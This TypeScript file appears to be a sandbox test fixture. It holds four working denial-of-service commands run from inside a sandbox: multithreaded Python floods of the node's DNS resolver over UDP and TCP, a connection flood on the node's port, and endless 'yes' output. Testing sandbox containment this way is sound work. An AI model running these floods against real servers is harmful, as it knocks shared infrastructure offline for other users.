// Commands that flood the node from inside a sandbox.

const python = (program: string) => `exec python3 - <<'END'\n${program}\nEND`;
const dnsSetup = `import socket, threading
server = next(line.split()[1] for line in open("/etc/resolv.conf") if line.startswith("nameserver"))
query = b"\\0\\7\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0\\5flood\\4test\\0\\0\\1\\0\\1"`;

/** The commands by description; PORT stands for the node's port. */
export const floods: Readonly<Record<string, string>> = {
  "DNS over UDP": python(`${dnsSetup}
def flood():
  s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect((server, 53))
  while True:
    try: s.send(query)
    except OSError: pass
for _ in range(3): threading.Thread(target=flood).start()
flood()`),
  "DNS over TCP, pipelined on 8 connections": python(`${dnsSetup}
many = (len(query).to_bytes(2, "big") + query) * 2000
def read(s):
  while s.recv(65536): pass
def flood():
  while True:
    try:
      s = socket.create_connection((server, 53)); threading.Thread(target=read, args=(s,), daemon=True).start()
      while True: s.sendall(many)
    except OSError: pass
for _ in range(7): threading.Thread(target=flood).start()
flood()`),
  "connections to the node's port": python(`${dnsSetup}
def flood():
  while True:
    try: socket.create_connection((server, PORT), 1).close()
    except OSError: pass
for _ in range(7): threading.Thread(target=flood).start()
flood()`),
  "output without end": "yes flood",
};
